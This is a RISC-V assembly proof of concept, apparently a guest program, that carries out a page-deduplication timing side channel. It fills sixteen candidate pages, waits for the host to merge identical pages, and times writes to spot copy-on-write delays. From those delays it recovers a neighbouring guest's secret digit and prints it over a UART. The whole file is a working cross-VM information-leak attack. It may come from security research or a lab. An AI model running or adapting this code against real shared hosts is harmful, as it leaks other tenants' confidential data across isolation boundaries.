# A guest that wants to know its neighbour's secret and may not see its memory. It makes the page that each of the sixteen
# secrets would give, waits until the host has looked for equal pages, and writes one word to each, with an eye on the clock:
# a page that was in one frame with somebody else's has to be copied first, and that takes time. Prints a digit, or ? when
# no write took longer than the others. layout.s stands in front.

        .equ SECRETS,    16
        .equ WAIT,       400000         # ticks
        .equ LONG,       2000           # ticks that an ordinary write never takes

        .text
_start: la    s0, pages
        li    s1, 0
1:      mv    t1, s0                    # the page for secret s1
        li    t2, 1024
        li    t3, 0x01000193
        li    t4, 0x811c9dc5
        xor   t4, t4, s1
2:      mul   t4, t4, t3
        sw    t4, 0(t1)
        addi  t1, t1, 4
        addi  t2, t2, -1
        bnez  t2, 2b
        mv    s0, t1
        addi  s1, s1, 1
        li    t0, SECRETS
        bne   s1, t0, 1b

        li    t0, 0x20                  # the timer may wake wfi
        csrw  sie, t0
        csrr  a0, time
        li    t0, WAIT
        add   a0, a0, t0
        li    a1, 0
        li    a7, 0x54494d45            # SBI: TIME
        li    a6, 0
        ecall
        wfi

        la    s0, pages
        li    s1, 0
        li    s2, '?'
3:      lw    t2, 0(s0)                 # so that only the write can take long
        csrr  t0, time
        sw    t2, 0(s0)
        csrr  t1, time
        sub   t0, t1, t0
        li    t1, LONG
        bltu  t0, t1, 4f
        la    t0, digits
        add   t0, t0, s1
        lbu   s2, 0(t0)
4:      li    t0, PAGE
        add   s0, s0, t0
        addi  s1, s1, 1
        li    t0, SECRETS
        bne   s1, t0, 3b
        li    t0, UART
        sb    s2, 0(t0)
        li    a7, 0x53525354            # SBI: SRST
        li    a6, 0
        li    a0, 0
        li    a1, 0
        ecall

        .data
digits: .ascii "0123456789abcdef"
        .bss
        .balign 4096
pages:  .space 65536
